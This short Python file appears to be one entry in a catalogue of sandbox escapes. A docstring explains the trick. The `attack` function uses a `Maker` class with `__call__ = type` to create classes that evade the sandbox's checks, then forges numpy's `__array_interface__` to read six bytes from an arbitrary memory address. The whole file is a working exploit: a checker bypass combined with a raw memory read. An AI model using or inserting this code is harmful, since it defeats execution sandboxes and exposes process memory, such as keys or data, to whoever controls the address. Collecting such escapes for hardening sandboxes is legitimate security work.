"""Class: class machinery. Source: own find. Escape: `__call__ = type` makes classes unchecked; the
class then lies about its memory to numpy."""

import numpy as np


class Maker:
    __call__ = type


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    made = Maker()("Lie", (), {"__array_interface__": interface})
    return np.array(made()).tobytes()
